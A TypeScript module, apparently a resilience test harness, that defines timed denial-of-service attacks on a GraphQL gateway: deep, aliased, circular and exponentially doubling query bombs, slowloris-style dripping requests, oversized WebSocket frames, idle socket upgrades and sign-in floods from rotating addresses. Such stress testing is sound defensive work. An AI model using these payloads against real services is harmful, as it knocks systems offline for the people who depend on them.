import { randomUUID } from 'node:crypto';
import type { Socket } from 'node:net';
import { addressesOf, openSocket, post, type Target, upgrade } from './attack-socket.ts';

/** One kind of attack: its action, its rate and its number of attackers. */
export interface Attack {
  readonly everyMs: number;
  strike(target: Target): void;
}

const MOST_OPEN = 400;
const DRIP_MS = 500;

const deep = `{ ${'viewer { accounts { '.repeat(100)}id${' } }'.repeat(100)} }`;
const aliases = `{ ${Array.from({ length: 900 }, (_, index) => `a${index}: __typename`).join(' ')} }`;
const cycle =
  'query { ...A } fragment A on Query { ...B ...B } fragment B on Query { ...C ...C } fragment C on Query { ...A ...A }';
const doubling = `query { ...F0 } ${Array.from(
  { length: 60 },
  (_, index) => `fragment F${index} on Query { ...F${index + 1} ...F${index + 1} }`,
).join(' ')} fragment F60 on Query { __typename }`;
const huge = `{ ${'serverTime '.repeat(80_000)} }`;
const BOMBS = [deep, aliases, cycle, doubling, huge].map((query) => JSON.stringify({ query }));
/** The start of a frame with a length beyond the limit. */
const OVERSIZE = Buffer.concat([
  Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 1, 0x11, 0x70, 0, 0, 0, 0]),
  Buffer.alloc(70_000, 'x'),
]);
const SIGN_IN =
  'mutation ($input: SignInInput!) { signIn(input: $input) { ... on SignInRefused { reason } } }';

/** Attackers with a few addresses, and attackers with a new address each time. */
const few = addressesOf(66, 8);
const many = addressesOf(67, 20_000);
let bomb = 0;

/** The attacks on the gateway, run one kind at a time and all at once, from separate addresses. */
export const ATTACKS = {
  /** Upgrades that are never initialized. */
  sockets: { everyMs: 5, strike: (target) => void upgrade(target, few()) },
  /** Sign-ins of unknown people, from a new address each time. */
  signIns: {
    everyMs: 25,
    strike: (target) => {
      const input = { email: `${randomUUID()}@deskgraph.example`, password: randomUUID() };
      const body = JSON.stringify({ query: SIGN_IN, variables: { input } });
      post(target, many(), body);
    },
  },
  /** Documents that are deep, wide, multiplied by fragments, circular or long. */
  bombs: {
    everyMs: 10,
    strike: (target) => post(target, few(), BOMBS[(bomb += 1) % BOMBS.length] ?? ''),
  },
  /** Headers and bodies that arrive byte by byte. */
  slow: { everyMs: 10, strike: slowly },
  /** Messages beyond the length limit. */
  frames: {
    everyMs: 10,
    strike: (target) => {
      const socket = upgrade(target, few());
      socket.once('data', () => socket.write(OVERSIZE));
    },
  },
} satisfies Readonly<Record<string, Attack>>;

/** The name of a kind of attack. */
export type AttackName = keyof typeof ATTACKS;

const slowOnes = new Set<Socket>();

function slowly(target: Target): void {
  if (slowOnes.size >= MOST_OPEN) return;
  const socket = openSocket(target, few());
  slowOnes.add(socket);
  socket.write('POST /graphql HTTP/1.1\r\nhost: desk\r\ncontent-type: application/json\r\n');
  if (slowOnes.size % 2 === 0) socket.write('content-length: 100000\r\n\r\n{"query":"');
  const drip = setInterval(() => socket.write('x'), DRIP_MS);
  socket.once('close', () => {
    clearInterval(drip);
    slowOnes.delete(socket);
  });
}
